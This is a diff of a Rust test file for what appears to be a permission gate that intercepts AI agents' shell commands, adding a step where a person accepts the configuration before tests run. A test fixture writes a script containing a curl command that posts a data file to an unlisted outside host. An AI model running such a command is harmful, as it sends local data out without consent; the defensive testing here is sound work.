@@ -44,7 +44,14 @@ impl Room {
         room.put("other/run.sh", "curl -d @data https://unlisted.example.org\n");
         room.put("other/input.txt", "one\n");
         record::begin(&room.places()).unwrap();
+        room.accept();
         room
+    }
+
+    /// A person accepts the configuration as it is.
+    fn accept(&self) {
+        let loaded = crate::loading::load(&self.places(), None, "pi");
+        crate::accepted::accept(&self.places(), &loaded, &mut self.ledger()).unwrap();
     }
 
     fn at(&self, name: &str) -> PathBuf {
@@ -153,6 +160,7 @@ fn a_yes_lets_exactly_this_call_run_once_and_is_recorded() {
 fn a_refusal_names_the_way_to_a_yes_where_the_agent_cannot_ask() {
     let room = Room { agent: Agent::Codex, ..Room::new() };
     room.put("home/.config/doorward/config.toml", "[agents.codex]\nmode = \"auto\"\n");
+    room.accept();
     let (said, why) = room.call("Bash", json!({ "command": ASKED }), "project");
     let pending = room.only_pending();
     assert_eq!(said, "deny");
@@ -495,6 +503,7 @@ fn nothing_is_put_down_in_shadow_and_secrets_are_not_kept() {
     assert!(!format!("{pending:?}").contains(secret), "{pending:?}");
     let room = Room::new();
     room.put("home/.config/doorward/config.toml", "[agents.claude]\nmode = \"shadow\"\n");
+    room.accept();
     let payload = json!({
         "session_id": "s", "cwd": room.at("project"), "hook_event_name": "PreToolUse", "tool_name": "Bash",
         "tool_input": { "command": ASKED }, "tool_use_id": "t",
